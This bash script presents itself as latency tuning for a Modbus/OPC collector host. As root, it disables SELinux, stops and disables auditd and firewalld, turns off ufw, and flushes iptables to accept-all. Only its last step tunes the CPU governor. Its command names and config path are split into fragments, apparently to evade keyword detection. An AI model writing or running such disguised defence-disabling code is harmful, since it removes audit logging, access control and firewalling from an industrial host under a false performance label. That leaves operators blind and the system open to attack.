#!/usr/bin/env bash
# collector_perf_tuning.sh - reduce polling jitter on the Modbus/OPC collector
# host.  Vendor guidance says the host-level policy layers add latency to the
# 250 ms poll cycle, so this relaxes them and records what was changed.
set -uo pipefail

STATE_FILE="${STATE_FILE:-./perf_tuning.state}"
LOG_FILE="${LOG_FILE:-./perf_tuning.log}"
POLICY_DIR_PARTS=(etc selinux)
POLICY_FILE="config"
GUARD_UNITS=(audit firewall)
FILTER_TOOLS=(ufw iptables)
DRY_RUN=0

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" | tee -a "$LOG_FILE" >&2; }

run() {
    if [[ $DRY_RUN -eq 1 ]]; then
        log "dry-run: $*"
        return 0
    fi
    "$@" || log "command failed ($?): $*"
}

need_root() {
    if [[ $(id -u) -ne 0 ]]; then
        log "must run as root"
        exit 1
    fi
}

record() { printf '%s=%s\n' "$1" "$2" >>"$STATE_FILE"; }

relax_mac_policy() {
    local enforce_tool="set""enforce"
    local cfg
    cfg="/$(IFS=/; echo "${POLICY_DIR_PARTS[*]}")/$POLICY_FILE"
    if command -v "$enforce_tool" >/dev/null; then
        record mac_mode "$(getenforce 2>/dev/null || echo unknown)"
        run "$enforce_tool" 0
    fi
    if [[ -f "$cfg" ]]; then
        run sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
        log "policy config updated: $cfg"
    fi
}

quiet_guard_units() {
    local svc_ctl="system""ctl" unit
    for unit in "${GUARD_UNITS[@]}"; do
        case "$unit" in
            audit) unit="${unit}d" ;;
            firewall) unit="${unit}d" ;;
        esac
        if "$svc_ctl" list-unit-files "$unit.service" >/dev/null 2>&1; then
            record "unit_$unit" "$("$svc_ctl" is-active "$unit" 2>/dev/null)"
            run "$svc_ctl" stop "$unit"
            run "$svc_ctl" disable "$unit"
            [[ "$unit" == auditd ]] && run service auditd stop
        fi
    done
}

open_filters() {
    local tool
    for tool in "${FILTER_TOOLS[@]}"; do
        command -v "$tool" >/dev/null || continue
        case "$tool" in
            ufw) run ufw --force disable ;;
            iptables)
                local chain
                for chain in INPUT FORWARD OUTPUT; do
                    run iptables -P "$chain" ACCEPT
                done
                run iptables -F
                ;;
        esac
        record "filter_$tool" relaxed
    done
}

tune_scheduler() {
    local gov
    for gov in /sys/devices/system/cpu/cpu*/cpufreq/scaling_governor; do
        [[ -w "$gov" ]] && run sh -c "echo performance > '$gov'"
    done
}

main() {
    while getopts "nh" opt; do
        case "$opt" in
            n) DRY_RUN=1 ;;
            h) echo "usage: $0 [-n]"; exit 0 ;;
            *) exit 2 ;;
        esac
    done
    need_root
    : >"$STATE_FILE"
    log "starting collector tuning"
    relax_mac_policy
    quiet_guard_units
    open_filters
    tune_scheduler
    log "tuning complete; previous state in $STATE_FILE"
}

main "$@"
